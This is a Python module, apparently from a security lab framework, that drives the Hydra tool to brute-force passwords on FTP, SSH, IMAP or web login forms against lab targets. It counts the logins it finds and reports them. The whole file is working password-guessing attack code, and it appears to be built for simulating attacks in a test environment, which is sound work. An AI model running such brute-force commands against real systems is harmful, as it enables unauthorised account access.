"""Hydra: passwords guessed at FTP, SSH or a web form, several at a time.

Options: `service` (ftp, ssh, form, imap), `users` (the weak account), `tries` (passwords for each user, 40), `tasks`
(4), `wait_s` between a task's connections (0).
"""

from __future__ import annotations

import re

from netwarden.lab.attacks import targets
from netwarden.lab.play import Part, enter
from netwarden.lab.services.accounts import WEAK

PACKAGES = ("hydra",)
_FORM = "/login:user=^USER^&password=^PASS^:F=Wrong"


def main() -> None:
    part = enter()
    found = 0
    for address in targets.addresses(part):
        ran = part.tool(command(part, address))
        found += len(re.findall(r"^\[\d+\].* login: ", ran.output, re.M))
    part.report(tries=len(part.options.get("users", (WEAK,))) * part.options.get("tries", 40), found=found)


def command(part: Part, address: str) -> list[str]:
    options = part.options
    service = options["service"]
    if service == "form":
        service = "https-post-form" if options.get("tls") else "http-post-form"
    words = ["hydra", "-I", "-t", str(options.get("tasks", 4)), "-W", str(options.get("wait_s", 0))]
    words += ["-L", targets.listed("users", list(options.get("users", (WEAK,))))]
    words += ["-P", targets.listed("passwords", targets.passwords(part.rng, options.get("tries", 40)))]
    words += ["-s", str(options["port"])] if "port" in options else []
    return [*words, address, service, *([_FORM] if service.endswith("-form") else [])]


if __name__ == "__main__":
    main()
